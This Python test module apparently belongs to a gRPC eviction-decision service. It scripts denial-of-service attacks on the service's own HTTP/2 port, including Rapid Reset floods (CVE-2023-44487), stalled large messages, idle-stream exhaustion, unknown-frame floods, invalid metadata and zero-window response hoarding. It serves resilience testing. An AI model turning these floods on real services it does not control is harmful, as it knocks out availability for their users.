"""Attacks on the gRPC port."""

from __future__ import annotations

import asyncio
import struct
from collections import Counter
from collections.abc import Awaitable, Callable, Sequence

from bailiff.v1 import eviction_decision_service_pb2 as pb
from bailiff.v1 import kubernetes_pb2 as core
from tests.attack.clients import ONE, Attack, connected, crowd, together
from tests.attack.http2 import Connection, connect, head
from tests.harness.faces.http2 import END_HEADERS, HEADERS, RST_STREAM, frame

SERVICE = "/bailiff.v1.EvictionDecisionService/"
MIB = 1024 * 1024
# Calls that a server takes on one connection.
_EACH = 100
Act = Callable[[Connection], Awaitable[None]]


def _on_connections(sources: Sequence[str], act: Act, window: int = 65535) -> Attack:
    """One connection from each of these addresses."""

    async def attack(port: int, tally: Counter[str]) -> None:
        def one(address: str) -> Callable[[], Awaitable[None]]:
            async def once() -> None:
                connection = await connect(port, address, window)
                try:
                    await act(connection)
                finally:
                    tally["refused"] += len(connection.refused)
                    connection.close()

            return once

        await together([one(address) for address in sources], tally)

    return attack


def stalled_messages(number: int, size: int, addresses: int) -> Attack:
    """Calls that send a long message but for its last byte, from so many addresses."""

    async def act(connection: Connection) -> None:
        stream = connection.open(SERVICE + "DecideBatch")
        await connection.send(stream, struct.pack(">BI", 0, size) + b"\0" * (size - 1))
        while not connection.gone and stream not in connection.refused:
            await asyncio.sleep(0.1)

    return _on_connections(crowd(number, each=-(-number // addresses)), act)


def idle_calls(connections: int, method: str, source: str | None = None) -> Attack:
    """Calls that are begun and send nothing, as many as a connection may have."""

    async def act(connection: Connection) -> None:
        for _ in range(_EACH):
            connection.open(SERVICE + method)
        while not connection.gone and len(connection.refused) < _EACH:
            await asyncio.sleep(0.1)

    return _on_connections([source] * connections if source else crowd(connections), act)


def resets(connections: int) -> Attack:
    """Calls that are begun and reset at once (CVE-2023-44487)."""

    async def act(connection: Connection) -> None:
        while not connection.gone:
            for _ in range(50):
                stream = connection.open(SERVICE + "Decide")
                connection.write(frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
            await asyncio.sleep(0)

    return _on_connections([ONE] * connections, act)


def tiny_frames(connections: int) -> Attack:
    """Frames of a kind that nobody knows, each of nine bytes."""
    frames = frame(0xFA, 0, 0) * 10_000

    async def act(connection: Connection) -> None:
        while not connection.gone:
            connection.write(frames)
            await connection.drain()

    return _on_connections([ONE] * connections, act)


def hidden_streams(connections: int, size: int) -> Attack:
    """Long messages in streams after one that only a server may begin."""

    async def act(connection: Connection) -> None:
        connection.write(frame(HEADERS, END_HEADERS, 0x7FFFFFFE, head(SERVICE + "Decide")))
        for _ in range(20):
            stream = connection.open("/grpc.health.v1.Health/Check")
            await connection.send(stream, struct.pack(">BI", 0, size) + b"\0" * (size - 1))

    return _on_connections(crowd(connections), act)


def bad_metadata(connections: int) -> Attack:
    """Calls with metadata that is no text."""

    async def act(connection: Connection) -> None:
        while not connection.gone:
            connection.open(SERVICE + "Decide", (b"x-name", b"\xff\xfe"), end=True)
            await asyncio.sleep(0.001)

    return _on_connections([ONE] * connections, act)


def unread_answers(connections: int) -> Attack:
    """Questions whose answers are long, from clients that take none of them."""
    pods = [core.Pod(metadata=core.ObjectMeta(name=f"p{i}")) for i in range(5000)]
    taint = core.Taint(key="k", effect="NoExecute")
    node = core.Node(metadata=core.ObjectMeta(name="n"), spec=core.NodeSpec(taints=[taint]))
    asked = pb.DecideBatchRequest(pods=pods, node=node).SerializeToString()
    message = struct.pack(">BI", 0, len(asked)) + asked

    async def act(connection: Connection) -> None:
        for _ in range(_EACH):
            stream = connection.open(SERVICE + "DecideBatch")
            await connection.send(stream, message, end=True)
        while not connection.gone and len(connection.refused) < _EACH:
            await asyncio.sleep(0.1)

    return _on_connections(crowd(connections), act, window=0)


def connections(number: int) -> Attack:
    """Connections on which nothing is asked, one half without even a greeting."""

    async def attack(port: int, tally: Counter[str]) -> None:
        def one(address: str, *, greets: bool) -> Callable[[], Awaitable[None]]:
            async def once() -> None:
                if greets:
                    connection = await connect(port, address)
                    while not connection.gone:
                        await asyncio.sleep(0.2)
                    connection.close()
                    return
                async with connected(port, address) as (reader, _):
                    while await reader.read(65536):
                        pass

            return once

        await together([one(at, greets=i % 2 == 0) for i, at in enumerate(crowd(number))], tally)

    return attack
